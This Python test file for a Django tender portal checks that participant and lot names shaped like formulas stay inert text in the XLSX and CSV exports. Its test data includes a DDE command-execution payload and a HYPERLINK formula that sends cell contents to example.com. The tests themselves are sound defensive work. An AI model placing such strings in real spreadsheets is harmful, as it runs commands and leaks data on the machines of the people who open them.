"""The project team's workbooks and CSV file never hold a live formula made from a name a
participant or the project team typed: the participant overview, the demand overview and the
aggregation exports (the demand workbook and the price sheet have tests of their own)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.models import Organisation
from portal.tests.test_spreadsheets import PAYLOADS
from tenders.models import Lot
from tenders.tests.export_jobs import export_downloaded
from tenders.tests.test_aggregation import run_now, setup, submit  # noqa: F401 - fixture

pytestmark = pytest.mark.django_db
NAME = "=cmd|' /C calc'!A0"
LOT = '=HYPERLINK("http://example.com/?"&A1,"klik")'


@pytest.fixture
def hostile(setup):  # noqa: F811 - the fixture imported above
    submit(setup, "a", [("GM9101", "laptop", 2028, 100)])
    submit(setup, "b", [("GM9102", "phone", 2029, 40)])
    for index, participation in enumerate(setup["p"].values()):
        Organisation.objects.filter(pk=participation.organisation_id).update(
            name=[NAME, *PAYLOADS][index]
        )
    Lot.objects.filter(programme=setup["programme"], number=1).update(name=LOT)
    setup["snapshot"] = run_now(setup["programme"])
    return setup


def _texts_and_formulas(content: bytes) -> tuple[list, list]:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    guarded = [(cell.value, cell.quotePrefix) for cell in cells if cell.value in {NAME, LOT}]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    return guarded, formulas


@pytest.mark.parametrize(
    "path, expected, made_by_worker",
    [
        ("deelnemers/export", {NAME}, False),
        ("inventarisatie/export", {NAME}, True),
        ("aggregatie/{snapshot}/export.xlsx", {NAME, LOT}, True),
    ],
)
def test_names_that_start_like_a_formula_stay_text_in_every_workbook(
    personas, hostile, path, expected, made_by_worker
):
    url = "/programmas/gt-agg/" + path.format(snapshot=hostile["snapshot"].public_id)
    client = personas["project_team"].client()
    if made_by_worker:
        content = export_downloaded(client, url).content_bytes
    else:
        response = client.get(url)
        assert response.status_code == 200
        content = response.getvalue()
    guarded, formulas = _texts_and_formulas(content)
    assert formulas == []
    assert {value for value, _prefix in guarded} == expected
    assert all(prefix is True for _value, prefix in guarded)


def test_names_that_start_like_a_formula_get_a_quote_in_the_csv(personas, hostile):
    url = f"/programmas/gt-agg/aggregatie/{hostile['snapshot'].public_id}/export.csv"
    response = personas["project_team"].client().get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    lot_names = {row[1] for row in rows[1:]}
    assert f"'{LOT}" in lot_names and LOT not in lot_names
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
